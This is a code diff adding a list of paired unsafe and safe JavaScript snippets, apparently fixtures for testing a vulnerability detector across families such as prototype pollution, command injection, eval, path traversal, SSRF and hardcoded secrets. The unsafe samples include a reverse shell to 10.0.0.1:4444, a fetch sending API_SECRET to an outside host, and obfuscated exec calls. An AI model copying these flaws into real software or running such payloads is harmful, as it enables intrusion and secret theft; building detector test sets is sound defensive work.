@@ -383,3 +383,77 @@ export const typescriptTwins: Twin[] = [
     safe: `export const f = (b: Buffer): unknown => JSON.parse(b.toString());`,
   },
 ];
+
+/** Found by thinking of what the first ones leave out. */
+export const furtherTwins: Twin[] = [
+  {
+    family: "proto-pollution",
+    unsafe: `function extend(target, source) { for (const key in source) { if (source.hasOwnProperty(key)) { if (typeof source[key] === "object") extend(target[key], source[key]); else target[key] = source[key]; } } } module.exports = extend;`,
+    safe: `function extend(target, source) { for (const key in source) { if (target.hasOwnProperty(key)) { if (typeof source[key] === "object") extend(target[key], source[key]); else target[key] = source[key]; } } } module.exports = extend;`,
+  },
+  {
+    family: "secret",
+    unsafe: `require("nodemailer").createTransport({ auth: { user: "a", pass: "kq83hfa7" } });`,
+    safe: `require("nodemailer").createTransport({ auth: { user: "a", pass: process.env.MAIL_PASS } });`,
+  },
+  {
+    family: "redos",
+    unsafe: `exports.f = (word, text) => text.match(new RegExp(word));`,
+    safe: `exports.f = (word, text) => text.match(new RegExp(word.replace(/[.*+?^{}()|[\\]\\\\$]/g, "\\\\$&")));`,
+  },
+  {
+    family: "command",
+    unsafe: `const { exec } = require("child_process"); exports.f = (name) => { const safe = name.replace("..", ""); exec("cat " + safe); };`,
+    safe: `const { exec } = require("child_process"); exports.f = (name) => { const safe = name.replace(/[^a-z0-9]/g, ""); exec("cat " + safe); };`,
+  },
+  {
+    family: "command",
+    unsafe: `const { exec } = require("child_process"); function check(x) { return true; } exports.f = (x) => { if (check(x)) exec(x); };`,
+    safe: `const { exec } = require("child_process"); function check(x) { return ["ls"].includes(x); } exports.f = (x) => { if (check(x)) exec(x); };`,
+  },
+  {
+    family: "path-fs",
+    unsafe: `const fs = require("fs"), path = require("path"); app.get("/", (req, res) => { const p = path.normalize(req.query.p); if (p.startsWith("/srv/") || req.query.admin) res.end(fs.readFileSync(p)); });`,
+    safe: `const fs = require("fs"), path = require("path"); app.get("/", (req, res) => { const p = path.normalize(req.query.p); if (p.startsWith("/srv/") && req.query.admin) res.end(fs.readFileSync(p)); });`,
+  },
+  {
+    family: "ssrf-net",
+    unsafe: `class Client { constructor(url) { this.url = url; } get() { return fetch(this.url); } } module.exports = Client;`,
+    safe: `class Client { constructor() { this.url = "https://a.net/"; } get() { return fetch(this.url); } } module.exports = Client;`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `const run = eval; exports.f = (x) => run(x);`,
+    safe: `const run = JSON.parse; exports.f = (x) => run(x);`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `exports.f = (x) => Reflect.apply(Function, null, [x])();`,
+    safe: `exports.f = (x) => Reflect.apply(Math.max, null, [x]);`,
+  },
+  {
+    family: "code-eval",
+    unsafe: `exports.f = (x) => [].constructor.constructor(x)();`,
+    safe: `exports.f = (x) => [].concat(x);`,
+  },
+  {
+    family: "command",
+    unsafe: `const name = "child" + "_process"; exports.f = (x) => require(name)["ex" + "ec"](x);`,
+    safe: `const name = "child" + "_process"; exports.f = () => require(name)["ex" + "ec"]("ls");`,
+  },
+  {
+    family: "command",
+    unsafe: `import { exec as e } from "child_process"; export const f = async (x) => { const run = e.bind(null); run(x); };`,
+    safe: `import { exec as e } from "child_process"; export const f = async () => { const run = e.bind(null); run("ls"); };`,
+  },
+  {
+    family: "secret-leak",
+    unsafe: `const { API_SECRET } = process.env; fetch("https://x.net/?k=" + API_SECRET);`,
+    safe: `const { API_URL } = process.env; fetch(API_URL + "/x");`,
+  },
+  {
+    family: "backdoor",
+    unsafe: `const net = require("net"), cp = require("child_process"); const s = net.connect(4444, "10.0.0.1", () => { const sh = cp.spawn("/bin/sh", []); s.pipe(sh.stdin); sh.stdout.pipe(s); });`,
+    safe: `const net = require("net"); const s = net.connect(4444, "localhost", () => { s.write("ping"); });`,
+  },
+];
